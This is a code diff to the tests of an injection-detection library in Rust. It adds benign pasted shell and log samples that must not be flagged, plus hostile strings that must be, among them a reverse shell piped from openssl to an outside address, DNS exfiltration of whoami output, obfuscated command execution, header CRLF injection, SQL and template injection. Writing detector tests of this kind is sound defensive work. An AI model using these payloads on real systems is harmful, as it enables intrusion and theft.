@@ -18,6 +18,7 @@ fn classes(text: &str) -> Vec<Class> {
 fn every_pattern_compiles() {
     let rooms = [
         super::command::compiles(),
+        super::pasted::compiles(),
         super::header::compiles(),
         super::ldap::compiles(),
         super::nosql::compiles(),
@@ -28,7 +29,7 @@ fn every_pattern_compiles() {
         super::xss::compiles(),
         super::xxe::compiles(),
     ];
-    assert_eq!(rooms, [true; 10]);
+    assert_eq!(rooms, [true; 11]);
 }
 
 /// One attack of each kind, at least: what it is, and as what it must be found.
@@ -137,6 +138,58 @@ fn what_only_looks_like_attacks_is_none() {
     ];
     for text in texts {
         assert_eq!(hits(text), [], "{text}");
+    }
+}
+
+#[test]
+fn what_people_paste_is_no_attack() {
+    let texts = [
+        "```bash\nfind . -name '*.tmp' -mtime +7\nnetstat -tulpn | grep :443\n```\nends with 1",
+        "I tried `uname -a; uptime` and then `df -h | grep sda`, the same.",
+        "pi@raspberrypi:~ $ history | grep git\nbash: syntax error",
+        "[ann@web-03 ~]$ cat /proc/cpuinfo | head -5",
+        "#!/bin/bash\n# backup\nfor f in *.txt; do\n  gzip -9 \"$f\"\ndone; echo $?",
+        "README: first make -j4 2>&1 | tee build.log, then run it",
+        "From: \"O'Connor\" <a@b.example>\nTo: c@d.example\nSubject: Re: it\n\nHello",
+        "HTTP/1.1 302 Found\nLocation: /x\nSet-Cookie: a=b\n\nis what I get",
+        "BEGIN:VEVENT\nSUMMARY:Choir\nLOCATION:Hall\nEND:VEVENT",
+        "{\"name\": \"C&A\", \"offers\": {\"price\": \"4.99\"}, \"review\": \"it's ok & cheap\"}",
+        "P<USASMITH<<JOHN<<<<<<<<<<<<<<92144",
+        "File not found: /etc/nginx/sites-available/default",
+        "What does SELECT * FROM sys.tables WHERE id = 0 return?",
+        "EXEC Limo's",
+        "bucket = \"x-${var.env}\"",
+    ];
+    for text in texts {
+        assert_eq!(hits(text), [], "{text}");
+    }
+}
+
+#[test]
+fn tricks_of_tools_are_found() {
+    let cases: [(Class, &[&str]); 4] = [
+        (
+            Class::Command,
+            &[
+                "a.pdf;Start-Sleep -s 12",
+                "1;tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=id",
+                "x&for /f \"tokens=*\" %i in ('whoami') do nslookup %i.b.example",
+                "1|set a=who&set b=ami&call %a%%b%",
+                "7||exec getent passwd",
+                "7;openssl s_client -quiet -connect 203.0.113.1:443|sh",
+            ],
+        ),
+        (Class::Header, &["x%0d%0aClear-Site-Data: \"*\"", "ann@b.example\nSubject: Win"]),
+        (
+            Class::Sql,
+            &["1e0union select 1,2", "7;alter table staff drop column pw--", "1;prepare s from 0x73;execute s;"],
+        ),
+        (Class::Template, &["{{.System \"id\"}}", "{{config.items()}}"]),
+    ];
+    for (class, texts) in cases {
+        for text in texts {
+            assert!(classes(text).contains(&class), "{} in {text}", class.name());
+        }
     }
 }
 
